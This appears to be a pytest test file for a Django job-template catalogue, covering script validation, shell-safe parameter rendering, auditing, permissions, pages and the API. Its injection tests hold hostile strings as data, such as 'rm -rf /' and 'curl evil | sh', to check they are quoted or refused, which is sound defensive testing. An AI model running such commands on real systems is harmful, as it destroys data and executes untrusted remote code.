"""The algorithm catalogue: job templates checked whole, parameters put into scripts safely (injection
attempts included), the services audited, the pages (catalogue, detail, operators' pages) and the API,
who may see and change what, and query counts that do not grow with the number of templates."""

import json
import shlex
import subprocess

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from compute.jobs import catalogue
from compute.jobs.template_demo import DEMO_TEMPLATES, seed_job_templates
from compute.models import JobTemplate, TemplateStatus
from core.exceptions import InvalidTransition, NotAllowed
from core.models import AuditEvent
from tests.accounts.factories import UserFactory, make_operator
from tests.compute.factories import PartitionFactory

pytestmark = pytest.mark.django_db

LIST = "/compute/jobs/templates/"
OPERATIONS = "/compute/operator/job-templates/"
API = "/api/v1/job-templates/"

SCRIPT = '#!/bin/bash\necho "train ${model} for ${epochs} epochs lr=${lr} amp=${amp} note=${note}"\n'
PARAMETERS = [
    {
        "name": "model",
        "type": "choice",
        "label_en": "Model",
        "label_zh": "模型",
        "default": "resnet50",
        "choices": ["resnet50", "vit-b16"],
    },
    {
        "name": "epochs",
        "type": "int",
        "label_en": "Epochs",
        "label_zh": "轮数",
        "default": 10,
        "min": 1,
        "max": 100,
    },
    {"name": "lr", "type": "float", "label_en": "Learning rate", "default": 0.01, "min": 0.0001, "max": 1},
    {"name": "amp", "type": "bool", "label_en": "Mixed precision", "default": True},
    {"name": "note", "type": "text", "label_en": "Note", "default": "hello", "max_length": 50},
]


@pytest.fixture
def operator(db, mfa):
    return mfa(make_operator())


@pytest.fixture
def npu(db):
    return PartitionFactory(slug="npu")


@pytest.fixture
def cpu(db):
    return PartitionFactory(slug="cpu", name_en="CPU partition", name_zh="CPU 分区", slurm_partition="cpu")


def make_template(operator, *, slug="train", partitions=(), publish=True, **fields):
    values = {
        "slug": slug,
        "name_en": f"Template {slug}",
        "name_zh": f"模板 {slug}",
        "summary_en": f"Summary of {slug}",
        "kind": "pytorch",
        "script": SCRIPT,
        "parameters": PARAMETERS,
        "cards_per_node": 8,
        **fields,
    }
    template = catalogue.create_job_template(by=operator, partitions=list(partitions), **values)
    if publish:
        template = catalogue.publish_job_template(template, by=operator)
    return template


# --- checking a template -------------------------------------------------------------------------------


def problems_of(operator, **fields):
    with pytest.raises(ValidationError) as caught:
        make_template(operator, publish=False, **fields)
    return caught.value.message_dict


def test_a_template_with_a_good_script_and_parameters_saves_as_a_draft(operator):
    template = make_template(operator, publish=False)
    assert template.status == TemplateStatus.DRAFT
    assert template.default_resources() == {
        "nodes": 1,
        "cards_per_node": 8,
        "cpus_per_node": 1,
        "memory_gb": 4,
        "time_limit_minutes": 60,
    }


@pytest.mark.parametrize(
    ("script", "parameters", "field", "words"),
    [
        ("echo hi ${model}\n", PARAMETERS[:1], "script", "interpreter line"),
        ("#!/bin/bash\necho ${model} ${other}\n", PARAMETERS[:1], "script", "not declared: other"),
        ("#!/bin/bash\necho ${model}\n", PARAMETERS[:2], "parameters", "does not use: epochs"),
        ("#!/bin/bash\necho ${model}\n", [PARAMETERS[0], PARAMETERS[0]], "parameters", "declared twice"),
        ("#!/bin/bash\necho ${x}\n", [{**PARAMETERS[1], "name": "1x"}], "parameters", "letters, digits"),
        (
            "#!/bin/bash\necho ${epochs}\n",
            [{**PARAMETERS[1], "default": 500}],
            "parameters",
            "default does not fit",
        ),
        (
            "#!/bin/bash\necho ${epochs}\n",
            [{**PARAMETERS[1], "min": 50, "max": 5}],
            "parameters",
            "minimum is above",
        ),
        (
            "#!/bin/bash\necho ${epochs}\n",
            [{**PARAMETERS[1], "type": "date"}],
            "parameters",
            "type is one of",
        ),
        (
            "#!/bin/bash\necho ${model}\n",
            [{**PARAMETERS[0], "choices": ["a b", "c"]}],
            "parameters",
            "choices",
        ),
        (
            "#!/bin/bash\necho ${model}\n",
            [{**PARAMETERS[0], "colour": 1}],
            "parameters",
            "unknown keys colour",
        ),
        ("#!/bin/bash\necho ${note}\n", [{**PARAMETERS[4], "default": "a\nb"}], "parameters", "line break"),
        (
            "#!/bin/bash\necho ${epochs}\n",
            [{**PARAMETERS[1], "label_en": "", "label_zh": ""}],
            "parameters",
            "needs a label",
        ),
    ],
)
def test_a_broken_template_is_refused_with_a_clear_reason(operator, script, parameters, field, words):
    problems = problems_of(operator, script=script, parameters=parameters)
    assert any(words in message for message in problems[field]), problems
    assert not JobTemplate.objects.exists()


def test_a_script_over_the_size_cap_is_refused(operator, settings):
    settings.JOB_SCRIPT_MAX_BYTES = 1024
    script = "#!/bin/bash\n" + "echo padding\n" * 100 + "echo ${model}\n"
    problems = problems_of(operator, script=script, parameters=PARAMETERS[:1])
    assert any("longer than 1 KiB" in message for message in problems["script"])


def test_the_blank_script_follows_the_same_rules(settings):
    assert catalogue.check_script_text(catalogue.blank_script()).startswith("#!/bin/bash")
    with pytest.raises(ValidationError, match="interpreter line"):
        catalogue.check_script_text("echo no shebang\n")
    with pytest.raises(ValidationError, match="NUL"):
        catalogue.check_script_text("#!/bin/bash\necho \x00\n")
    settings.JOB_SCRIPT_MAX_BYTES = 100
    with pytest.raises(ValidationError, match="longer than"):
        catalogue.check_script_text("#!/bin/bash\n" + "#" * 200)


def test_the_status_column_is_held_by_the_database(operator):
    from django.db import IntegrityError, transaction

    template = make_template(operator, publish=False)
    with pytest.raises(IntegrityError), transaction.atomic():
        JobTemplate.objects.filter(pk=template.pk).update(status="deleted")


# --- render_script -------------------------------------------------------------------------------------


def render(template, **values):
    return catalogue.render_script(template, {**{p["name"]: p["default"] for p in PARAMETERS}, **values})


def test_values_are_put_in_as_their_canonical_text(operator):
    template = make_template(operator, publish=False)
    script = render(template, model="vit-b16", epochs="42", lr=0.5, amp=False, note="two words")
    assert script == ("#!/bin/bash\necho \"train vit-b16 for 42 epochs lr=0.5 amp=0 note='two words'\"\n")


@pytest.mark.parametrize(
    "hostile",
    ["; rm -rf /", "$(touch /tmp/pwned)", "`id`", "a'b\"c", "${HOME}", "x && curl evil | sh", "--help", "*"],
)
def test_text_reaches_the_shell_as_one_harmless_word(operator, hostile):
    """The rendered script, run by bash, prints the text exactly as typed: nothing in it runs or expands."""
    template = make_template(
        operator,
        publish=False,
        script="#!/bin/bash\nprintf '%s\\n' ${note}\n",
        parameters=[PARAMETERS[4]],
    )
    script = catalogue.render_script(template, {"note": hostile})
    assert shlex.quote(hostile) in script
    result = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=10, check=True)
    assert result.stdout == hostile + "\n"


@pytest.mark.parametrize("bad", ["line one\nline two", "carriage\rreturn", "nul\x00byte"])
def test_text_with_a_line_break_or_nul_is_refused(operator, bad):
    template = make_template(operator, publish=False)
    with pytest.raises(ValidationError, match="line break or a NUL"):
        render(template, note=bad)


@pytest.mark.parametrize(
    ("values", "words"),
    [
        ({"model": "resnet50; rm -rf /"}, "is one of resnet50, vit-b16"),
        ({"epochs": "10; rm -rf /"}, "whole number"),
        ({"epochs": "$(id)"}, "whole number"),
        ({"epochs": 1000}, "at most 100"),
        ({"epochs": 0}, "at least 1"),
        ({"epochs": 2.5}, "whole number"),
        ({"lr": "nan"}, "is a number"),
        ({"lr": "1e400"}, "is a number"),
        ({"amp": "maybe"}, "yes or no"),
        ({"note": "x" * 51}, "at most 50 characters"),
        ({"note": 5}, "is text"),
        ({"rm": "-rf"}, "no parameters named rm"),
    ],
)
def test_bad_values_are_refused_with_a_clear_error(operator, values, words):
    template = make_template(operator, publish=False)
    with pytest.raises(ValidationError) as caught:
        render(template, **values)
    assert any(words in message for message in caught.value.messages), caught.value.messages


def test_a_missing_value_is_refused_by_render_and_defaulted_by_clean_parameters(operator):
    template = make_template(operator, publish=False)
    with pytest.raises(ValidationError, match="needs a value"):
        catalogue.render_script(template, {"model": "resnet50"})
    values = catalogue.clean_parameters(template, {"epochs": "7"})
    assert values == {"model": "resnet50", "epochs": 7, "lr": 0.01, "amp": True, "note": "hello"}
    with pytest.raises(ValidationError, match="no parameters named"):
        catalogue.clean_parameters(template, {"nope": 1})


def test_the_parameter_form_is_typed_with_limits_and_bilingual_labels(operator):
    from django.utils import translation

    template = make_template(operator, publish=False)
    form_class = catalogue.parameter_form_class(template)
    form = form_class(data={"model": "vit-b16", "epochs": "500", "lr": "0.1", "note": "ok"})
    assert not form.is_valid()
    assert "epochs" in form.errors
    form = form_class(data={"model": "vit-b16", "epochs": "5", "lr": "0.1", "amp": "on", "note": "ok"})
    assert form.is_valid(), form.errors
    assert catalogue.render_script(template, form.cleaned_data).startswith(
        '#!/bin/bash\necho "train vit-b16 for 5'
    )
    # Built per request, in the reader's language (the form of the lead's job page does the same).
    with translation.override("zh-hans"):
        assert catalogue.parameter_fields(template)["epochs"].label == "轮数"
    with translation.override("en"):
        assert catalogue.parameter_fields(template)["epochs"].label == "Epochs"
        assert catalogue.parameter_fields(template)["lr"].label == "Learning rate"


# --- services ------------------------------------------------------------------------------------------


def test_create_update_publish_retire_are_audited_from_and_to(operator, npu, cpu):
    template = make_template(operator, publish=False, partitions=[npu])
    catalogue.update_job_template(template, by=operator, name_en="Renamed", partitions=[npu, cpu])
    catalogue.publish_job_template(template, by=operator)
    catalogue.retire_job_template(template, by=operator)
    events = {e.action: e for e in AuditEvent.objects.filter(target_id=str(template.pk))}
    assert set(events) == {
        "job_template.create",
        "job_template.update",
        "job_template.publish",
        "job_template.retire",
    }
    assert events["job_template.update"].changes["name_en"] == {"from": "Template train", "to": "Renamed"}
    assert events["job_template.update"].changes["partitions"] == {"from": ["npu"], "to": ["cpu", "npu"]}
    assert events["job_template.publish"].changes["status"] == {"from": "draft", "to": "published"}
    assert events["job_template.retire"].changes["status"] == {"from": "published", "to": "retired"}
    assert all(e.actor == operator for e in events.values())
    template.refresh_from_db()
    assert template.status == TemplateStatus.RETIRED
    with pytest.raises(InvalidTransition):
        catalogue.retire_job_template(template, by=operator)


def test_only_operators_keep_templates(operator, supervisor):
    template = make_template(operator, publish=False)
    for person in (UserFactory(), supervisor):
        with pytest.raises(NotAllowed):
            catalogue.publish_job_template(template, by=person)
        with pytest.raises(NotAllowed):
            catalogue.update_job_template(template, by=person, name_en="x")
    template.refresh_from_db()
    assert (template.status, template.name_en) == (TemplateStatus.DRAFT, "Template train")


def test_an_update_that_breaks_the_template_changes_nothing(operator):
    template = make_template(operator)
    with pytest.raises(ValidationError):
        catalogue.update_job_template(template, by=operator, script="#!/bin/bash\necho ${unknown}\n")
    template.refresh_from_db()
    assert template.script == SCRIPT
    assert not AuditEvent.objects.filter(action="job_template.update").exists()


def test_the_demo_templates_are_valid_and_render(operator, npu, cpu):
    seed_job_templates(operator)
    seed_job_templates(operator)  # twice: harmless
    templates = JobTemplate.objects.published()
    assert templates.count() == len(DEMO_TEMPLATES) == 5
    for template in templates:
        assert 2 <= len(template.parameters) <= 4
        script = catalogue.render_script(template, catalogue.clean_parameters(template, {}))
        assert "${" not in script and script.startswith("#!/bin/bash")
    assert list(
        JobTemplate.objects.get(slug="cpu-data-processing").partitions.values_list("slug", flat=True)
    ) == ["cpu"]


# --- pages ---------------------------------------------------------------------------------------------


def test_the_catalogue_needs_signing_in_and_shows_published_templates_only(client, operator, npu):
    make_template(operator, slug="live", partitions=[npu])
    make_template(operator, slug="drafted", publish=False)
    retired = make_template(operator, slug="old")
    catalogue.retire_job_template(retired, by=operator)
    assert client.get(LIST).status_code == 302
    client.force_login(UserFactory())
    response = client.get(LIST)
    assert response.status_code == 200
    text = response.content.decode()
    assert "Template live" in text and "Summary of live" in text
    assert "Template drafted" not in text and "Template old" not in text
    assert client.get(reverse("compute:job_template_detail", args=["drafted"])).status_code == 404
    assert client.get(reverse("compute:job_template_detail", args=["old"])).status_code == 404


def test_the_catalogue_filters_by_kind_and_partition(client, operator, npu, cpu):
    make_template(operator, slug="torch", partitions=[npu])
    make_template(operator, slug="crunch", kind="cpu_batch", partitions=[cpu])
    client.force_login(UserFactory())
    text = client.get(LIST, {"kind": "cpu_batch"}).content.decode()
    assert "Template crunch" in text and "Template torch" not in text
    text = client.get(LIST, {"partition": "npu"}).content.decode()
    assert "Template torch" in text and "Template crunch" not in text
    text = client.get(LIST, {"kind": "mindspore"}).content.decode()
    assert "No template matches these filters." in text
    response = client.get(LIST, {"kind": "<script>", "partition": "nope"})  # unknown filters are ignored
    assert response.status_code == 200 and "Template torch" in response.content.decode()


def test_the_pages_read_in_chinese(client, operator, npu):
    make_template(operator, partitions=[npu], summary_zh="中文简介")
    client.force_login(UserFactory())
    text = client.get(LIST, HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()
    assert "模板 train" in text and "中文简介" in text
    text = client.get(reverse("compute:job_template_detail", args=["train"]), HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert "轮数" in text.content.decode()


def test_the_empty_catalogue_says_what_to_do(client):
    client.force_login(UserFactory())
    assert "You can still run a script of your own" in client.get(LIST).content.decode()


def test_the_detail_page_shows_parameters_script_and_the_way_to_use_it(client, operator, npu):
    make_template(operator, partitions=[npu], description_en="Long description here")
    client.force_login(UserFactory())
    response = client.get(reverse("compute:job_template_detail", args=["train"]))
    text = response.content.decode()
    assert response.status_code == 200
    assert "Long description here" in text and "Learning rate" in text and "resnet50 | vit-b16" in text
    assert "1 – 100" in text and "echo &quot;train ${model}" in text
    assert f'href="{reverse("compute:job_submit")}?template=train"' in text
    assert "/compute/operator/job-templates/" not in text  # no operator buttons for people


def test_operators_create_edit_publish_and_retire_on_the_pages(client, operator, npu):
    client.force_login(operator)
    assert client.get(OPERATIONS).status_code == 200
    assert client.get(reverse("compute:job_template_create")).status_code == 200
    data = {
        "slug": "fresh",
        "name_en": "Fresh",
        "name_zh": "新模板",
        "kind": "tensorflow",
        "partitions": [npu.pk],
        "script": "#!/bin/bash\r\necho ${epochs}\r\n",
        "parameters_json": json.dumps([PARAMETERS[1]]),
        "nodes": 1,
        "cards_per_node": 2,
        "cpus_per_node": 4,
        "memory_gb": 16,
        "time_limit_minutes": 30,
    }
    response = client.post(reverse("compute:job_template_create"), data)
    assert response.status_code == 302, response.content.decode()[:3000]
    template = JobTemplate.objects.get(slug="fresh")
    assert (template.status, template.script, template.created_by) == (
        "draft",
        "#!/bin/bash\necho ${epochs}\n",
        operator,
    )
    assert list(template.partitions.all()) == [npu]
    edit_page = client.get(reverse("compute:job_template_edit", args=[template.pk])).content.decode()
    assert "&quot;name&quot;: &quot;epochs&quot;" in edit_page and 'value="fresh"' in edit_page
    response = client.post(
        reverse("compute:job_template_edit", args=[template.pk]), {**data, "name_en": "Fresher"}
    )
    assert response.status_code == 302
    client.post(reverse("compute:job_template_publish", args=[template.pk]))
    template.refresh_from_db()
    assert (template.name_en, template.status) == ("Fresher", "published")
    client.post(reverse("compute:job_template_retire", args=[template.pk]))
    template.refresh_from_db()
    assert template.status == "retired"
    # A retired template's page is still the operators' to see, with its history.
    text = client.get(reverse("compute:job_template_detail", args=["fresh"])).content.decode()
    assert "Retired" in text and "Job template published" in text


def test_the_form_names_each_problem_and_saves_nothing(client, operator):
    client.force_login(operator)
    data = {
        "slug": "broken",
        "name_en": "Broken",
        "name_zh": "坏",
        "kind": "other",
        "script": "#!/bin/bash\necho ${a} ${b}\n",
        "parameters_json": '[{"name": "a", "type": "int", "label_en": "A", "default": 0, "min": 1}',
        "nodes": 1,
        "cards_per_node": 0,
        "cpus_per_node": 1,
        "memory_gb": 1,
        "time_limit_minutes": 1,
    }
    response = client.post(reverse("compute:job_template_create"), data)
    assert response.status_code == 400
    assert "This is not valid JSON (line 1" in response.content.decode()
    data["parameters_json"] = json.dumps(
        [{"name": "a", "type": "int", "label_en": "A", "default": 0, "min": 1}, {"name": "c", "type": "bool"}]
    )
    text = client.post(reverse("compute:job_template_create"), data).content.decode()
    assert "the default does not fit" in text and "“c” needs a label" in text
    data["parameters_json"] = json.dumps([{"name": "a", "type": "int", "label_en": "A", "default": 1}])
    text = client.post(reverse("compute:job_template_create"), data).content.decode()
    assert "not declared: b" in text
    assert not JobTemplate.objects.exists()


def test_people_and_supervisors_cannot_change_templates(client, operator, supervisor, mfa):
    template = make_template(operator, publish=False)
    mfa(supervisor)
    for person in (UserFactory(), supervisor):
        client.force_login(person)
        for url in (
            reverse("compute:job_template_create"),
            reverse("compute:job_template_edit", args=[template.pk]),
        ):
            assert client.get(url).status_code == 403
            assert client.post(url, {"slug": "x"}).status_code == 403
        assert client.post(reverse("compute:job_template_publish", args=[template.pk])).status_code == 403
    client.force_login(UserFactory())
    assert client.get(OPERATIONS).status_code == 403
    client.force_login(supervisor)
    assert client.get(OPERATIONS).status_code == 200  # supervisors read, change nothing
    template.refresh_from_db()
    assert template.status == TemplateStatus.DRAFT
    assert JobTemplate.objects.count() == 1


def test_another_operators_template_is_edited_as_the_editor_and_recorded(client, operator, mfa):
    """Templates belong to the center, not to one operator: a second operator may edit, and the trail says who."""
    template = make_template(operator)
    other = mfa(make_operator())
    client.force_login(other)
    data = {
        "slug": "train",
        "name_en": "Changed by other",
        "name_zh": "模板",
        "kind": "pytorch",
        "script": SCRIPT,
        "parameters_json": json.dumps(PARAMETERS),
        "nodes": 1,
        "cards_per_node": 8,
        "cpus_per_node": 1,
        "memory_gb": 4,
        "time_limit_minutes": 60,
    }
    assert client.post(reverse("compute:job_template_edit", args=[template.pk]), data).status_code == 302
    template.refresh_from_db()
    assert (template.updated_by, template.created_by) == (other, operator)
    assert AuditEvent.objects.get(action="job_template.update").actor == other


def test_pages_query_count_does_not_grow_with_templates(
    client, operator, npu, cpu, django_assert_max_num_queries
):
    viewer = UserFactory()

    def queries(url):
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        with CaptureQueriesContext(connection) as captured:
            assert client.get(url).status_code == 200
        return len(captured)

    for index in range(2):
        make_template(operator, slug=f"t{index}", partitions=[npu, cpu])
    client.force_login(viewer)
    few = queries(LIST)
    client.force_login(operator)
    few_ops = queries(OPERATIONS)
    few_api = queries(API)
    for index in range(2, 12):
        make_template(operator, slug=f"t{index}", partitions=[npu, cpu])
    client.force_login(viewer)
    with django_assert_max_num_queries(few):
        client.get(LIST)
    client.force_login(operator)
    with django_assert_max_num_queries(few_ops):
        client.get(OPERATIONS)
    with django_assert_max_num_queries(few_api):
        client.get(API)


# --- API -----------------------------------------------------------------------------------------------


def test_the_api_lists_published_templates_to_signed_in_people(api_client, operator, npu):
    make_template(operator, slug="live", partitions=[npu])
    make_template(operator, slug="drafted", publish=False)
    assert api_client.get(API).status_code in (401, 403)
    api_client.force_authenticate(UserFactory())
    body = api_client.get(API).json()
    rows = body["results"] if isinstance(body, dict) else body
    assert [row["slug"] for row in rows] == ["live"]
    row = rows[0]
    assert row["partitions"] == ["npu"]
    assert row["default_resources"]["cards_per_node"] == 8
    assert [p["name"] for p in row["parameters"]] == ["model", "epochs", "lr", "amp", "note"]
    assert row["parameters"][1]["label"] == "Epochs" and row["parameters"][1]["max"] == 100
    detail = api_client.get(f"{API}live/")
    assert detail.status_code == 200 and detail.json()["script"] == SCRIPT
    assert api_client.get(f"{API}{row['id']}/").json()["slug"] == "live"
    assert api_client.get(f"{API}drafted/").status_code == 404
    assert api_client.get(API, {"status": "draft"}).status_code == 400
    assert api_client.get(API, {"kind": "nonsense"}).status_code == 400


def test_operators_list_other_statuses_through_the_api(api_client, operator, npu):
    make_template(operator, slug="live", partitions=[npu])
    make_template(operator, slug="drafted", publish=False)
    api_client.force_authenticate(operator)

    def slugs(**params):
        body = api_client.get(API, params).json()
        return [row["slug"] for row in (body["results"] if isinstance(body, dict) else body)]

    assert slugs() == ["live"]
    assert slugs(status="draft") == ["drafted"]
    assert slugs(partition="npu") == ["live"]
    assert slugs(kind="mindspore") == []
    assert api_client.get(f"{API}drafted/").status_code == 200
